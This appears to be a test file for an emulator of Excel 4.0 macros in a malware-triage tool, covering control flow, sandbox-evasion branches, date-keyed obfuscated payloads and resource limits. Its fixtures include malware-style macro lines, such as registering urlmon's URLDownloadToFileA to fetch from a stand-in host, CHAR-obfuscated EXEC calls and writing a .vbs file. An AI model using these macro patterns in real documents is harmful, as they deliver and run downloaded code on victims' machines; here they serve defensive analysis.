"""What macros do when they are followed: the ways they take, what they write and run, and where that ends."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from emotriage.emulation.xlm.emulate import emulate
from emotriage.formats.excel.cell_looks import Font, Layout, Look
from emotriage.formats.excel.macrosheet import Cell, DefinedName, Sheet, Workbook, called_functions
from emotriage.model.limits import Budget, Limits
from emotriage.testing.ptg import place

AUTO = {"Auto_Open": "=M!$A$1"}


def book(cells, names=None, layout=None, looks=(), **others):
    def sheet(name, cells, kind):
        made = []
        for where, value in cells.items():
            formula = value if isinstance(value, str) and value.startswith("=") else ""
            made.append(Cell(*place(where), formula, None if formula else value, called_functions(formula)))
        return Sheet(name, kind, "visible", cells=tuple(made), layout=layout or Layout())

    sheets = [sheet("M", cells, "macrosheet"), *(sheet(name, one, "worksheet") for name, one in others.items())]
    defined = tuple(DefinedName(name, text) for name, text in (AUTO if names is None else names).items())
    return Workbook("", "biff8", tuple(sheets), defined, looks=looks)


def run(cells, *args, budget=None, **more):
    return emulate(book(cells, *args, **more), budget or Budget(Limits()))


def started(done):
    return [call.texts[0] for one in done.executed for call in one.calls if call.name == "EXEC"]


@pytest.mark.parametrize(
    ("cells", "expected"),
    [
        ({"A1": '=EXEC("a")', "A2": "=HALT()", "A3": '=EXEC("b")'}, ["a"]),
        ({"A1": "=GOTO(B5)", "A2": '=EXEC("no")', "B5": '=EXEC("yes")'}, ["yes"]),
        ({"A1": '=RUN("R3C2")', "A2": '=EXEC("back")', "B3": '=EXEC("there")', "B4": "=RETURN()"}, ["there", "back"]),
        ({"A1": '=EXEC(B1()&"!")', "A2": "=HALT()", "B1": '=RETURN("value")'}, ["value!"]),
        (
            {
                "A1": '=EXEC(B1("x","y"))',
                "A2": "=HALT()",
                "B1": '=ARGUMENT("p")',
                "B2": '=ARGUMENT("q")',
                "B3": "=RETURN(q&p)",
            },
            ["yx"],
        ),
        ({"A1": '=IF(1=1,EXEC("yes"),EXEC("no"))'}, ["yes"]),
        ({"A1": '=IF(1=2,EXEC("no"))', "A2": '=EXEC("on")'}, ["on"]),
        (
            {
                "A1": "=IF(1=2)",
                "A2": '=EXEC("no")',
                "A3": "=ELSE.IF(1=1)",
                "A4": '=EXEC("yes")',
                "A5": "=ELSE()",
                "A6": '=EXEC("no")',
            }
            | {"A7": "=END.IF()", "A8": '=EXEC("on")'},
            ["yes", "on"],
        ),
        (
            {
                "A1": "=IF(1=1)",
                "A2": "=IF(1=2)",
                "A3": '=EXEC("no")',
                "A4": "=END.IF()",
                "A5": '=EXEC("yes")',
                "A6": "=ELSE()",
            }
            | {"A7": '=EXEC("no")', "A8": "=END.IF()"},
            ["yes"],
        ),
        ({"A1": '=FOR("i",1,3)', "A2": "=EXEC(i)", "A3": "=NEXT()", "A4": '=EXEC("on")'}, ["1", "2", "3", "on"]),
        ({"A1": '=FOR("i",3,1,-1)', "A2": "=EXEC(i)", "A3": "=NEXT()"}, ["3", "2", "1"]),
        ({"A1": '=FOR("i",2,1)', "A2": '=EXEC("no")', "A3": "=NEXT()", "A4": '=EXEC("on")'}, ["on"]),
        (
            {
                "A1": '=SET.NAME("i",0)',
                "A2": "=WHILE(i<2)",
                "A3": '=SET.NAME("i",i+1)',
                "A4": "=EXEC(i)",
                "A5": "=NEXT()",
            },
            ["1", "2"],
        ),
        (
            {"A1": '=FOR.CELL("c",B1:B3)', "A2": "=EXEC(c)", "A3": "=NEXT()", "B1": "x", "B2": "y", "B3": "z"},
            ["x", "y", "z"],
        ),
        ({"A1": '=FOR("i",1,9)', "A2": "=BREAK()", "A3": "=NEXT()", "A4": '=EXEC("on")'}, ["on"]),
        ({"A1": '=FORMULA("=EXEC(""written"")",A2)', "A3": "=HALT()"}, ["written"]),
        ({"A1": '=FORMULA.FILL("=EXEC(R1C3)",B7)', "A2": "=GOTO(B7)", "C1": "letters"}, ["letters"]),
        ({"A1": '=FORMULA("=EXEC(R[-1]C[1])",A3)', "A2": "=HALT()", "B2": "x"}, []),
        ({"A1": '=SET.VALUE(B1,"a")', "A2": '=SET.NAME("n",B1)', "A3": '=SET.VALUE(B1,"b")', "A4": "=EXEC(n)"}, ["b"]),
        (
            {
                "A1": "=SELECT(B2)",
                "A2": '=FORMULA("word")',
                "A3": '=SELECT("R[1]C")',
                "A4": "=EXEC(B2&ROW(ACTIVE.CELL()))",
            },
            ["word3"],
        ),
        ({"A1": '=EVALUATE("EXEC(""it"")")'}, ["it"]),
        ({"A1": '=ON.TIME(NOW()+"00:00:02","R5C5")', "A2": "=HALT()", "E5": '=EXEC("later")'}, ["later"]),
        ({"A1": "=EXEC(Data!B2&Data!B3)", "Data": None}, ["ab"]),
        ({"A1": '=EXEC(INDEX({"a","b";"c","d"},2,1)&LOOKUP(2,{1,2,3},{"x","y","z"})&CHOOSE(2,"p","q"))'}, ["cyq"]),
        (
            {"A1": '=EXEC(HLOOKUP("k",B1:C2,2,FALSE)&MATCH("v",C1:C2,0))', "B1": "k", "B2": "v", "C1": "u", "C2": "v"},
            ["v2"],
        ),
        ({"A1": '=EXEC(INDIRECT(ADDRESS(1,2))&T(B1)&N(5)&TEXT(7,"000"))', "B1": "x"}, ["xx5007"]),
        ({"A1": "=EXEC(ROUND(2.5,0)&INT(-1.5)&MOD(-1,3)&ABS(-2)&SQRT(9)&ROWS(B1:B4))"}, ["3-22234"]),
        ({"A1": '=EXEC(IF(AND(TRUE,NOT(FALSE)),"and")&IF(ISNUMBER(SEARCH("ell","Hello")),"found"))'}, ["andfound"]),
    ],
)
def test_the_ways_macros_take(cells, expected):
    others = {"Data": {"B2": "a", "B3": "b"}} if cells.pop("Data", 0) is None else {}
    assert started(run(cells, **others)) == expected


def test_without_a_name_that_starts_it_every_column_is_followed():
    assert started(run({"A1": '=EXEC("a")', "C4": '=EXEC("c")'}, {})) == ["a", "c"]


def test_both_ways_are_taken_where_an_answer_decides():
    cells = {
        "A1": "=GET.WORKSPACE(13)",
        "A2": "=IF(A1<770,GOTO(B1),GOTO(C1))",
        "B1": '=EXEC("small")',
        "C1": '=EXEC("large")',
    }
    done = run(cells)
    assert started(done) == ["large", "small"]
    assert [(one.where, one.formula) for one in done.gates] == [("M!A2", cells["A2"])]


def test_what_one_way_writes_is_not_seen_on_the_other():
    cells = {"A1": '=IF(ALERT("?",1),SET.VALUE(B1,"yes"),SET.VALUE(B1,"no"))', "A2": "=EXEC(B1)"}
    assert sorted(started(run(cells))) == ["no", "yes"]


def test_blocks_are_gates_as_well():
    cells = {
        "A1": "=IF(GET.WORKSPACE(19))",
        "A2": '=EXEC("mouse")',
        "A3": "=ELSE()",
        "A4": '=EXEC("none")',
        "A5": "=END.IF()",
    }
    assert sorted(started(run(cells))) == ["mouse", "none"]


@pytest.mark.parametrize(
    ("key", "name"),
    [
        ("DAY(NOW())", "day of the month 23"),
        ("HOUR(NOW())", "hour 23"),
        ("MONTH(TODAY())+17", "month 6"),
        ("WEEKDAY(NOW())+20", "day of the week 3"),
    ],
)
def test_the_date_that_fits_is_found(key, name):
    text = "&".join(f"CHAR({ord(char) - 23}+B1)" for char in '=EXEC("http://host.invalid/a")')
    done = run({"A1": f"=SET.VALUE(B1,{key})", "A2": f"=FORMULA.FILL({text},C1)", "A3": "=RUN(C1)", "C2": "=RETURN()"})
    assert done.key == name
    assert started(done) == ["http://host.invalid/a"]


def test_a_date_that_only_decides_is_no_key():
    done = run({"A1": '=IF(DAY(NOW())<15,EXEC("first half"),EXEC("second half"))'})
    assert done.key == ""
    assert sorted(started(done)) == ["first half", "second half"]


def test_looks_of_cells_are_answers():
    looks = (Look(), Look(Font(size=20.0, colour=5), fill=3, vertical=5, horizontal=8))
    layout = Layout({(0, 1): 1}, heights={1: 9.95})
    questions = (
        '&"-"&'.join(f"GET.CELL({number},B1)" for number in (8, 19, 24, 38, 50))
        + '&"-"&GET.CELL(17,B2)&"-"&GET.CELL(19,B9)'
    )
    assert started(run({"A1": f"=EXEC({questions})"}, layout=layout, looks=looks)) == ["8-20-5-3-5-10-11"]


def test_registered_functions_are_known_by_their_names():
    cells = {
        "A1": '=REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","fetch",,1,9)',
        "A2": '=fetch(0,"http://host.invalid/a","b",0,0)',
    }
    calls = [call for one in run(cells).executed for call in one.calls if call.name == "CALL"]
    assert calls[0].texts[:5] == ("urlmon", "URLDownloadToFileA", "JJCCJJ", "0", "http://host.invalid/a")
    by_number = run({"A1": '=REGISTER("lib","f","J")', "A2": "=CALL(A1,5)"})
    assert ("lib", "f", "J", "5") in [call.texts for one in by_number.executed for call in one.calls]


def test_files_that_are_written_are_kept():
    cells = {"A1": '=FOPEN("x.vbs",3)', "A2": '=FWRITE(A1,"one")', "A3": '=FWRITELN(A1," line")', "A4": "=FCLOSE(A1)"}
    (written,) = run(cells).files
    assert (written.path, written.text, written.where) == ("x.vbs", "one line\r\n", "M!A1")


@pytest.mark.parametrize(
    "cells",
    [
        {"A1": '=EXEC("x")', "A2": "=GOTO(A1)"},
        {"A1": '=EXEC("x")', "A2": "=RUN(A1)"},
        {"A1": "=WHILE(TRUE)", "A2": '=EXEC("x")', "A3": "=NEXT()"},
        {"A1": '=EXEC("x")', "A2": '=EVALUATE("RUN(A1)")'},
        {"A1": '=EXEC("x")', "A2": "=A1()"},
    ],
)
def test_what_never_ends_keeps_what_it_did(cells):
    done = run(cells)
    assert started(done)[:1] == ["x"]
    assert not done.complete


def test_formulas_that_wait_for_each_other_are_not_followed_for_ever():
    chain = {f"B{row}": f'=B{row + 1}&"x"' for row in range(1, 500)}
    assert run(chain | {"A1": "=EXEC(B1)", "A2": "=HALT()"}).complete
    assert run({"A1": "=EXEC(n)", "A2": "=HALT()"}, AUTO | {"n": "=m", "m": "=n"}).complete


def test_formulas_that_ask_for_the_same_one_ask_once():
    doubled = {f"B{row}": f"=B{row + 1}&B{row + 1}" for row in range(1, 20)} | {"B20": "x"}
    done = run(doubled | {"A1": "=EXEC(LEN(B1))", "A2": "=HALT()"})
    assert done.complete
    assert len(started(done)) == 1


def test_what_is_written_without_end_is_bounded():
    cells = {"A1": '=FOPEN("x",3)', "A2": '=FOR("i",1,9999)', "A3": '=FWRITE(A1,REPT("x",32000))', "A4": "=NEXT()"}
    done = run(cells)
    assert not done.complete
    assert sum(len(one.text) for one in done.files) <= 1 << 20


def test_steps_cost_what_they_are():
    works = []
    for count in (2_000, 8_000):
        budget = Budget(Limits())
        run({f"A{row}": f'=SET.VALUE(B{row},"x"&{row})' for row in range(1, count)}, budget=budget)
        works.append(budget.work)
    assert works[1] <= 4.4 * works[0]


TEXT = 'REPT("x",32000)'
LETTERS = "&".join(f"CHAR(D{row}+1)" for row in range(1, 60))
GATES = {f"A{row}": f"=IF(GET.WORKSPACE({row})<770,GOTO(B{row}),)" for row in range(4, 80)}
WORST = {
    "texts": {
        "A1": f"={TEXT}",
        "A2": '=FOR("i",1,1E6)',
        "A3": "=LOWER(A1)&SUBSTITUTE(A1,1,2)=PROPER(A1)",
        "A4": "=NEXT()",
    },
    "kept": {"A1": f"={TEXT}", "A2": '=FOR("i",1,1E6)', "A3": '=CALL("l","f","JC",A1&i,A1)', "A4": "=NEXT()"},
    "date": {
        "A1": "=FORMULA.FILL(1,F1:AZ4000)",
        "A2": "=FORMULA.FILL(DAY(NOW())+MONTH(NOW()),D1:D60)",
        **{f"A{row}": f"=FORMULA.FILL({LETTERS},E{row})" for row in range(3, 900)},
        "A900": "=GOTO(A3)",
    },
    "area": {
        "A1": '=FOR("i",1,1E6)',
        "A2": "=FORMULA.FILL(i,F1:AZ4000)",
        "A3": '=FORMULA("=EXEC(1)",F1:AZ4000)',
        "A4": "=NEXT()",
    },
    "sum": {"A1": '=FOR("i",1,1E6)', "A2": "=" + "+".join(["SUM(F1:M512)"] * 600), "A3": "=NEXT()"},
    "gates": {
        "A1": '=FOR("i",1,60)',
        "A2": '=FORMULA.FILL("text",OFFSET(F1,i*4096,0,4096,1))',
        "A3": "=NEXT()",
        **GATES,
        **{f"B{row}": f"=GOTO(A{row + 1})" for row in range(4, 80)},
    },
}


@pytest.mark.parametrize("cells", WORST.values(), ids=WORST)
def test_the_worst_sheets_take_a_bounded_part_of_the_work(cells):
    budget = Budget(Limits())
    done = run(cells, budget=budget)
    assert not done.complete
    assert budget.work <= 500_000_000


def test_what_dates_share_is_run_once():
    shared = {f"A{row}": f'=SET.VALUE(B{row},"x"&{row})' for row in range(2, 300)}
    tried = {"A300": '=FORMULA(CHAR(D1+60)&"EXEC(""emotriage-inert"")",E1)', "A301": "=RUN(E1)", "A302": "=HALT()"}
    works = []
    for asked in ("1", "DAY(NOW())"):
        budget = Budget(Limits())
        run({"A1": f"=FORMULA.FILL({asked},D1)"} | shared | tried | {"E2": "=RETURN()"}, budget=budget)
        works.append(budget.work)
    assert works[1] <= 5 * works[0]  # thirty days, each on a memory of its own


def test_what_is_counted_on_between_question_and_need_is_counted_once():
    cells = {
        "A1": "=FORMULA.FILL(DAY(NOW())+D1,D1)",
        "A2": "=FORMULA.FILL(D2+40,D2)",
        "A3": '=FORMULA(CHAR(D1+57)&"EXEC(""emotriage-inert"")",E1)',
        "A4": "=RUN(E1)",
        "A5": "=HALT()",
        "E2": "=RETURN()",
    }
    done = run(cells)
    assert done.key == "day of the month 4"
    assert started(done) == ["emotriage-inert"]


PIECES = [
    *(
        "=GOTO(A1)",
        "=RUN(B1)",
        "=RETURN(B2)",
        "=HALT()",
        "=IF(A9)",
        "=ELSE()",
        "=ELSE.IF(B1)",
        "=END.IF()",
        "=NEXT()",
        "=BREAK()",
    ),
    *(
        "=WHILE(B1<3)",
        '=FOR("i",1,3)',
        '=FOR.CELL("c",A1:B9)',
        '=FORMULA("="&B1,B2)',
        "=SET.VALUE(B1,B1+1)",
        "=EVALUATE(B2)",
    ),
    *(
        '=SET.NAME("n",n&"=HALT()")',
        "=n()",
        "=IF(NOW()>1,GOTO(A3),RUN(A5))",
        "=FORMULA.FILL(n,A1:B9)",
        "=GET.CELL(17,B1)",
        2.0,
    ),
    *(
        '=REGISTER("l","f","t","n")',
        "=ON.TIME(1,B1)",
        '=ARGUMENT("n")',
        "=FWRITELN(FOPEN(B1),B2)",
        "=B1:B2:A1",
        "=R[1]C[-9]",
        "x",
    ),
]


@settings(max_examples=20)
@given(st.lists(st.sampled_from(PIECES), max_size=14), st.lists(st.sampled_from(PIECES), max_size=4))
def test_any_sheet_ends(first, second):
    cells = {f"A{row}": one for row, one in enumerate(first, 1)} | {f"B{row}": one for row, one in enumerate(second, 1)}
    run(cells, AUTO | {"n": '=""'})


@given(st.text(alphabet="\"&CHAR(65),A1:!$ 'RUN{}%<>-.5R[]C;#\n", max_size=200))
def test_any_formula_can_be_run(formula):
    run({"A1": "=" + formula, "A2": "=HALT()"})
